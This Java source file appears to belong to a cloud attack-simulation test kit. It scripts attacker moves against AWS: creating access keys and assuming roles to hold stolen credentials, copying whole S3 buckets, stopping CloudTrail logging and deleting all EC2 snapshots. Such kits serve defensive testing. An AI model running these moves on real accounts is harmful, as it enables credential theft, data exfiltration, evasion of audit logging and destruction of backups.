package dev.firebreak.testkit.attack;

import java.util.List;
import software.amazon.awssdk.auth.credentials.AwsSessionCredentials;
import software.amazon.awssdk.services.cloudtrail.CloudTrailClient;
import software.amazon.awssdk.services.ec2.Ec2Client;
import software.amazon.awssdk.services.ec2.model.Snapshot;
import software.amazon.awssdk.services.iam.IamClient;
import software.amazon.awssdk.services.iam.model.AccessKey;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.s3.model.S3Object;
import software.amazon.awssdk.services.sts.StsClient;
import software.amazon.awssdk.services.sts.model.Credentials;

/** The moves that attackers commonly make with credentials. */
final class Moves {
    private Moves() {}

    static Move createKey(String user) {
        return new ScriptedMove("create an access key for " + user, foothold -> {
            AccessKey made = foothold.use(IamClient.builder(), iam -> iam.createAccessKey(key -> key.userName(user)))
                    .accessKey();
            foothold.keep(StolenCredential.key(made.accessKeyId(), made.secretAccessKey(), "created for " + user));
        });
    }

    static Move assume(String roleArn) {
        return new ScriptedMove("assume " + roleArn, foothold -> {
            Credentials got = foothold.use(
                            StsClient.builder(),
                            sts -> sts.assumeRole(role -> role.roleArn(roleArn).roleSessionName("session")))
                    .credentials();
            foothold.keep(StolenCredential.session(
                    AwsSessionCredentials.create(got.accessKeyId(), got.secretAccessKey(), got.sessionToken()),
                    "assumed " + roleArn,
                    got.expiration()));
        });
    }

    static Move copyBucket(String bucket) {
        return new ScriptedMove("copy bucket " + bucket, foothold -> {
            List<String> keys = foothold.use(S3Client.builder(), s3 -> copy(s3, bucket));
            requireSome(keys, "Bucket " + bucket + " is empty");
            keys.forEach(key -> foothold.take("s3://" + bucket + "/" + key));
        });
    }

    private static List<String> copy(S3Client s3, String bucket) {
        List<String> keys = s3.listObjectsV2Paginator(list -> list.bucket(bucket)).contents().stream()
                .map(S3Object::key)
                .toList();
        keys.forEach(key -> s3.getObjectAsBytes(object -> object.bucket(bucket).key(key)));
        return keys;
    }

    static Move stopLogging(String trail) {
        return new ScriptedMove(
                "stop trail " + trail,
                foothold -> foothold.use(
                        CloudTrailClient.builder(), cloudTrail -> cloudTrail.stopLogging(stop -> stop.name(trail))));
    }

    static Move deleteSnapshots() {
        return new ScriptedMove("delete the snapshots", foothold -> {
            List<String> deleted = foothold.use(Ec2Client.builder(), Moves::delete);
            requireSome(deleted, "There are no snapshots");
        });
    }

    private static List<String> delete(Ec2Client ec2) {
        List<String> ids = ec2.describeSnapshotsPaginator(all -> all.ownerIds("self")).snapshots().stream()
                .map(Snapshot::snapshotId)
                .toList();
        ids.forEach(id -> ec2.deleteSnapshot(snapshot -> snapshot.snapshotId(id)));
        return ids;
    }

    private static void requireSome(List<String> found, String otherwise) {
        if (found.isEmpty()) {
            throw new MoveFailedException(otherwise);
        }
    }
}
